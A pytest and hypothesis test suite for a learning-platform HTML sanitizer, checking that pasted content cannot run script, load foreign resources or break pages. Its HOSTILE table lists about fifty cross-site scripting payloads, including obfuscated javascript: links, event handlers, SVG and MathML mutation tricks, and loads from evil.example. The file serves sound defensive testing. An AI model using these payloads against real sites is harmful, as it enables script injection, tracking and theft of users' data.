"""Whatever somebody pastes, what is stored and shown can run nothing, load nothing from elsewhere and break no page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from lms.web.html import (
    RICH_ATTRIBUTES,
    RICH_TAGS,
    SHORT_TAGS,
    clean_rich,
    clean_short,
    plain_text,
    trusted_rich,
)

HARMLESS_SCHEMES = {"", "http", "https", "mailto"}


class Reading(HTMLParser):
    """What a browser would make of it: every element with its attributes."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))


def scheme(address: str) -> str:
    """The scheme as a browser reads it: without the blanks and control characters that it leaves out."""
    return urlsplit(re.sub(r"[\x00-\x20]", "", address)).scheme.lower()


def is_of_this_site(address: str) -> bool:
    """Whether a browser stays here: it leaves tabs and line breaks out and reads a backslash as a slash."""
    read = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")
    return read.startswith("/") and not read.startswith("//")


def harms(source: str, tags=RICH_TAGS) -> list[str]:
    """What in this HTML could do more than be read."""
    found = []
    for tag, attributes in Reading(source).elements:
        found += [f"<{tag}>"] if tag not in tags else []
        allowed = RICH_ATTRIBUTES["*"] | RICH_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        found += [f"{tag} {name}=" for name in attributes if name not in allowed]
        if "href" in attributes and scheme(attributes["href"]) not in HARMLESS_SCHEMES:
            found.append(attributes["href"])
        if tag == "img" and not is_of_this_site(attributes.get("src", "/")):
            found.append(attributes["src"])
    return found


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script in parts": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script in capitals, unclosed": "<SCRIPT SRC=//evil.example/x.js>",
    "an event handler": '<p onclick="alert(1)">x</p>',
    "an event handler after a slash": '<img/src="/x.png"/onerror=alert(1)>',
    "an event handler that hides in a quote": '<img src="/x.png" alt="` onerror=alert(1) `">',
    "a script address": '<a href="javascript:alert(1)">x</a>',
    "a script address in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a script address with a tab": '<a href="java\tscript:alert(1)">x</a>',
    "a script address with a line break": '<a href="java&#10;script:alert(1)">x</a>',
    "a script address in entities": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "a script address behind a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "another script address": '<a href="vbscript:msgbox(1)">x</a>',
    "a page in an address": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a picture in an address": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "a foreign picture": '<img src="https://evil.example/track.png">',
    "a foreign picture without scheme": '<img src="//evil.example/track.png">',
    "a foreign picture with a backslash": '<img src="/\\evil.example/track.png">',
    "a foreign picture behind a tab": '<img src="/\t/evil.example/track.png">',
    "a foreign picture behind blanks": '<img src="  https://evil.example/track.png">',
    "a foreign picture in a set": '<img srcset="https://evil.example/track.png 1x">',
    "a style": '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "a style sheet": "<style>@import '//evil.example/x.css';</style>",
    "a linked style sheet": '<link rel="stylesheet" href="//evil.example/x.css">',
    "a drawing": "<svg><script>alert(1)</script></svg>",
    "a drawing that loads": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
    "a drawing with a page inside": "<svg><foreignObject><iframe src=javascript:alert(1)></svg>",
    "a drawing that changes its link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "a formula": '<math href="javascript:alert(1)">x</math>',
    "a formula that mutates": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "a style that mutates": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "a noscript that mutates": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a frame with a page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "an object": '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">',
    "a form": '<form action="//evil.example"><input name=password autofocus onfocus=alert(1)></form>',
    "a base for all links": '<base href="//evil.example/">',
    "a page that leads away": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "an id that shadows a script's": '<a id="csrf_token" name="forms">x</a><img name="body">',
    "a class that covers the page": '<p class="modal-backdrop">x</p>',
    "a behaviour of ours": '<p data-module="editor" data-upload-url="//evil.example" hx-get="/logout">x</p>',
    "a link to a window of its opener": '<a href="https://evil.example" target="_blank">x</a>',
    "a comment that is none": "<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->",
    "a video": '<video src="//evil.example/x.mp4" onloadstart=alert(1) poster=javascript:alert(1)></video>',
    "a template": "<template><script>alert(1)</script></template>",
    "a text area": "<textarea></textarea><script>alert(1)</script>",
    "a slot for marking": "<details open ontoggle=alert(1)><marquee onstart=alert(1)>x</marquee></details>",
}  # fmt: skip
CLEANERS = [
    pytest.param(clean_rich, RICH_TAGS, id="rich"),
    pytest.param(lambda text: str(clean_short(text)), SHORT_TAGS, id="short"),
    pytest.param(lambda text: str(trusted_rich(text)), RICH_TAGS, id="shown"),
]


@pytest.mark.parametrize(("clean", "tags"), CLEANERS)
@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
def test_the_hostile_becomes_harmless(hostile, clean, tags):
    assert harms(clean(hostile), tags) == []
    assert harms(clean(f"<p>前{hostile}后</p>"), tags) == []


def test_the_reader_of_this_test_sees_harm():
    """The control: nearly all of the above is seen when it is not cleaned."""
    unseen = {name for name, hostile in HOSTILE.items() if not harms(hostile)}
    assert unseen <= {"an event handler that hides in a quote", "a comment that is none"}


pieces = st.sampled_from(
    [
        *HOSTILE.values(),
        "<p>",
        "</p>",
        "<b>",
        "<td>",
        "<table>",
        "</table>",
        "<",
        ">",
        '"',
        "'",
        "&",
        "&lt;",
        "文",
    ]
)
soup = st.lists(pieces | st.text(max_size=8), max_size=10).map("".join)


@example('<?<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
@given(soup)
def test_no_mixture_does_harm_and_cleaning_twice_changes_nothing(text):
    for clean, tags in ((clean_rich, RICH_TAGS), (lambda text: str(clean_short(text)), SHORT_TAGS)):
        once = clean(text)
        assert harms(once, tags) == []
    assert clean_rich(clean_rich(text)) == clean_rich(text)


@example('<?<noscript><p title="</noscript><img src=x onerror=alert(1)>">')
@given(soup)
def test_plain_text_holds_no_elements(text):
    assert Reading(plain_text(text)).elements == []


KEPT = {
    "headings and paragraphs": "<h2>一</h2><p>二 <strong>三</strong> <em>四</em></p>",
    "lists": '<ul><li>一</li></ul><ol start="3"><li>二</li></ol>',
    "a table": '<table><thead><tr><th scope="col" colspan="2">一</th></tr></thead>'
    '<tbody><tr><td rowspan="2">二</td><td>三</td></tr></tbody></table>',
    "a picture of this site": '<figure><img src="/files/3/a.png" alt="图" width="40" height="30">'
    "<figcaption>一</figcaption></figure>",
    "signs": "<p>a &lt; b &amp;&amp; c &gt; d</p>",
}  # fmt: skip


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_what_an_editor_writes_is_kept_as_it_is(text):
    assert clean_rich(text) == text


def test_a_link_says_nothing_about_where_it_was_followed():
    link = '<a href="https://example.org/a?b=c" title="x">x</a>'
    assert Reading(clean_rich(link)).elements == [
        ("a", {"href": "https://example.org/a?b=c", "title": "x", "rel": "noopener noreferrer nofollow"})
    ]


def test_addresses_in_a_short_text_become_links():
    assert 'href="http://example.org"' in clean_short("见 example.org 。")
    assert "<a" not in clean_short("<code>example.org</code>")
    assert clean_short("a < b") == "a &lt; b"
